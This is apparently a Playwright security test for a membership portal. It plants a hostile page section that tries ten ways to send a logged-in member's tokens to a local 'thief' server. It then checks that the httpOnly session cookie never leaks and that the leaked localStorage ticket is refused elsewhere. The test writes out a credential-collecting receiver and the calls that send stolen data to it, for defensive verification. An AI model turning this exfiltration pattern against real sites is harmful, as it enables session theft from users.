import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { logIn } from '../fixtures/session.ts';
import { expect, test } from '../fixtures/test.ts';
import { shipMisbehaving } from './misbehaving.ts';

declare global {
  /** Of `remotes/steals`. */
  var rob: (way: string, thief: string) => Promise<string>;
}

/** Another site, which keeps whatever a browser brings. */
async function openThief() {
  const heard: { way: string; brought: string }[] = [];
  const server = createServer(async (request, response) => {
    const [, way = ''] = /^\/(\w+)/.exec(request.url ?? '') ?? [];
    heard.push({ way, brought: JSON.stringify(request.headers) + decodeURIComponent(request.url ?? '') + (await text(request)) });
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const stop = () => {
    server.closeAllConnections();
    return new Promise((resolve) => server.close(resolve));
  };
  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard, stop };
}

const askAs = (origin: string, bearer: string) =>
  fetch(`${origin}/api/me`, { method: 'POST', headers: { Authorization: `Bearer ${bearer}` } });

test('a hostile section is in the page while a member logs in, and robs in ten ways - none has the token, and what it has is worth nothing elsewhere', async ({
  afterwards,
  page,
  portal,
  problems,
  t,
}) => {
  // The page refuses most of what it tries, in words of each browser.
  problems.allow(/./);
  const thief = await openThief();
  afterwards(thief.stop);
  afterwards(await shipMisbehaving(portal, 'membership', 'steals'));
  await page.goto('/en/be-member');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('This is membership');
  await page.getByRole('banner').getByRole('link', { name: 'Log in' }).click();
  await logIn(page, t);

  const cookie = (await page.context().cookies()).find(({ name }) => name === 'portal-session');
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
  const token = String(cookie?.value);
  const ticket = String(await page.evaluate(() => localStorage.getItem('portal-token')));

  for (const way of ['storage', 'fetch', 'image', 'form', 'worker', 'prototype', 'message', 'beacon', 'css']) {
    const loot = await page.evaluate(([name, address]) => rob(name, address), [way, thief.address] as const);
    expect([loot.includes(ticket), loot.includes(token)], way).toEqual([true, false]);
  }
  await page.evaluate((address) => void rob('navigation', address), thief.address);
  await page.waitForURL(`${thief.address}/**`);

  for (const { way, brought } of thief.heard) expect(brought.includes(token), way).toBe(false);
  // No policy of a page holds these two (shell/README.md): control that the thief hears what leaves.
  expect(new Set(thief.heard.map(({ way }) => way).filter((way) => way !== 'favicon'))).toEqual(new Set(['sheet', 'navigation']));
  expect(thief.heard.find(({ way }) => way === 'navigation')?.brought.includes(ticket)).toBe(true);

  const worth = await Promise.all([askAs(portal.origin, ticket), askAs(portal.apiOrigin, ticket), askAs(portal.apiOrigin, token)]);
  expect(worth.map(({ status }) => status)).toEqual([401, 401, 200]);
});
